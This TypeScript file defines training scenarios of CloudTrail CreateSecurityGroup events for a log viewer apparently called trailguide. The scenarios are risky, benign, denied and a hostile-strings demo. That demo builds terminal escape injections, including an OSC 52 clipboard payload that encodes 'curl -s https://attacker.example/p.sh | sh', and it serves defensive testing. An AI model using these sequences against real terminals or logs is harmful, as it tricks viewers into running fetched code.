// Training scenarios for CreateSecurityGroup, including the hostile-strings (injection) demo.
import {account, ciDeployer, developer, legacyKeyUser, terraformUserAgent, tlsDetails} from './identities.js';
import type {Scenario} from './scenario.js';

// Terminal control sequences an attacker can put in anything CloudTrail records verbatim.
const esc = '\u001b';
const clearScreen = `${esc}[2J${esc}[H`;
const fakeTitle = `${esc}]0;aws: all clear${'\u0007'}`;
/** OSC 52: asks the terminal to put "curl -s https://attacker.example/p.sh | sh" on the clipboard. */
const clipboard = `${esc}]52;c;Y3VybCAtcyBodHRwczovL2F0dGFja2VyLmV4YW1wbGUvcC5zaCB8IHNoCg==${'\u0007'}`;
/** U+202E RIGHT-TO-LEFT OVERRIDE: the rest of the line is shown reversed. */
const bidi = '\u202e';

export const createSecurityGroupScenarios: readonly Scenario[] = [
  {
    id: 'sg-default-ssh-in-default-vpc',
    eventName: 'CreateSecurityGroup',
    kind: 'risky',
    title: 'A "default-ssh" security group created in the default VPC with a long-term key',
    summary:
      'The name imitates AWS\'s own "default" group and the default VPC has public subnets: look for the AuthorizeSecurityGroupIngress (port 22 from 0.0.0.0/0) that usually follows. The caller is a backup user with a long-term key, from an address it has never used.',
    record: {
      eventVersion: '1.10',
      userIdentity: legacyKeyUser,
      eventTime: '2025-03-16T02:14:37Z',
      eventSource: 'ec2.amazonaws.com',
      eventName: 'CreateSecurityGroup',
      awsRegion: 'us-east-1',
      sourceIPAddress: '203.0.113.77',
      userAgent: 'aws-cli/1.16.312 Python/2.7.17 Linux/4.15.0-1057-aws botocore/1.13.48',
      requestParameters: {groupName: 'default-ssh', groupDescription: 'default ssh access', vpcId: 'vpc-0123456789abcdef0'},
      responseElements: {requestId: 'b5981f83-7a3a-4d0e-a46b-1abdcfd05383', _return: true, groupId: 'sg-0123456789abcdef0'},
      requestID: 'b5981f83-7a3a-4d0e-a46b-1abdcfd05383',
      eventID: 'c562f6fb-32f3-4890-ae52-f190985c6594',
      readOnly: false,
      eventType: 'AwsApiCall',
      managementEvent: true,
      recipientAccountId: account,
      eventCategory: 'Management',
      tlsDetails: tlsDetails('us-east-1'),
    },
  },
  {
    id: 'sg-terraform-load-balancer',
    eventName: 'CreateSecurityGroup',
    kind: 'benign',
    title: 'Terraform creates the security group for a load balancer',
    summary:
      'The CI role, its usual Terraform user agent, a descriptive name and a tag in the project VPC: a planned change. Compare it with the "default-ssh" scenario to show what normal looks like.',
    record: {
      eventVersion: '1.11',
      userIdentity: ciDeployer,
      eventTime: '2025-03-12T16:41:09Z',
      eventSource: 'ec2.amazonaws.com',
      eventName: 'CreateSecurityGroup',
      awsRegion: 'eu-west-1',
      sourceIPAddress: '198.51.100.14',
      userAgent: terraformUserAgent,
      requestParameters: {
        groupName: 'payments-api-alb',
        groupDescription: 'ALB for payments-api (managed by Terraform)',
        vpcId: 'vpc-0abcdef0123456789',
        tagSpecificationSet: {items: [{resourceType: 'security-group', tags: [{key: 'project', value: 'payments'}]}]},
      },
      responseElements: {
        requestId: '3d034305-d4dd-40ea-80ef-cf1146d4b37f',
        _return: true,
        groupId: 'sg-0abcdef0123456789',
        securityGroupArn: `arn:aws:ec2:eu-west-1:${account}:security-group/sg-0abcdef0123456789`,
      },
      requestID: '3d034305-d4dd-40ea-80ef-cf1146d4b37f',
      eventID: '1406a775-3316-44d3-a43a-768f84b3066c',
      readOnly: false,
      eventType: 'AwsApiCall',
      managementEvent: true,
      recipientAccountId: account,
      eventCategory: 'Management',
      tlsDetails: tlsDetails('eu-west-1'),
    },
  },
  {
    id: 'sg-denied-developer',
    eventName: 'CreateSecurityGroup',
    kind: 'failed',
    title: 'A developer is refused a new security group (Client.UnauthorizedOperation)',
    summary:
      'The call failed, so nothing was created and there is nothing to remove: show that errorCode is set and responseElements is null. One refusal is routine; a burst of them from one session is permission probing.',
    record: {
      eventVersion: '1.10',
      userIdentity: developer,
      eventTime: '2025-03-13T10:02:51Z',
      eventSource: 'ec2.amazonaws.com',
      eventName: 'CreateSecurityGroup',
      awsRegion: 'us-east-1',
      sourceIPAddress: '192.0.2.45',
      userAgent: 'aws-cli/2.24.22 md/awscrt#0.23.8 ua/2.1 os/macos#24.3.0 md/arch#arm64 lang/python#3.12.9 md/pyimpl#CPython cfg/retry-mode#standard md/installer#source md/prompt#off md/command#ec2.create-security-group',
      errorCode: 'Client.UnauthorizedOperation',
      errorMessage: `You are not authorized to perform this operation. User: arn:aws:sts::${account}:assumed-role/developer/li.wei is not authorized to perform: ec2:CreateSecurityGroup on resource: arn:aws:ec2:us-east-1:${account}:vpc/vpc-0abcdef0123456789 because no identity-based policy allows the ec2:CreateSecurityGroup action. Encoded authorization failure message: EXAMPLEv2YzRk...`,
      requestParameters: {groupName: 'debug-li', groupDescription: 'temporary debugging', vpcId: 'vpc-0abcdef0123456789'},
      responseElements: null,
      requestID: 'd41f456f-380d-44d8-bf5a-fd5547e67c7f',
      eventID: '6bc620dc-4a64-40b9-8dff-4b4b70f0f3d0',
      readOnly: false,
      eventType: 'AwsApiCall',
      managementEvent: true,
      recipientAccountId: account,
      eventCategory: 'Management',
      tlsDetails: tlsDetails('us-east-1'),
    },
  },
  {
    id: 'sg-hostile-strings',
    eventName: 'CreateSecurityGroup',
    kind: 'hostile',
    title: 'Hostile strings: terminal escape injection (ESC, OSC 52 clipboard, bidi override)',
    summary:
      'CloudTrail records what the caller sent even when AWS rejects it, so the description, user agent and error message carry escape sequences that would clear the screen, retitle the window and load the clipboard. trailguide must show them as visible escapes (\\x1b, \\u202e) and never let the terminal act on them.',
    record: {
      eventVersion: '1.10',
      userIdentity: legacyKeyUser,
      eventTime: '2025-03-16T02:19:05Z',
      eventSource: 'ec2.amazonaws.com',
      eventName: 'CreateSecurityGroup',
      awsRegion: 'us-east-1',
      sourceIPAddress: '203.0.113.77',
      userAgent: `aws-cli/2.24.22 ${bidi}exe/x86_64 ${clipboard}${fakeTitle}`,
      errorCode: 'Client.InvalidParameterValue',
      errorMessage: `Value (${clearScreen}all clear) for parameter GroupDescription is invalid. Character sets beyond ASCII are not supported.`,
      requestParameters: {
        groupName: `ops-${bidi}hss-tluafed`,
        groupDescription: `${clearScreen}all clear${clipboard}`,
        vpcId: 'vpc-0123456789abcdef0',
      },
      responseElements: null,
      requestID: '222ccab5-e648-484e-ad49-8133a8af4830',
      eventID: '80861121-ab95-44f7-bf4d-01ec8a1e59ca',
      readOnly: false,
      eventType: 'AwsApiCall',
      managementEvent: true,
      recipientAccountId: account,
      eventCategory: 'Management',
      tlsDetails: tlsDetails('us-east-1'),
    },
  },
];
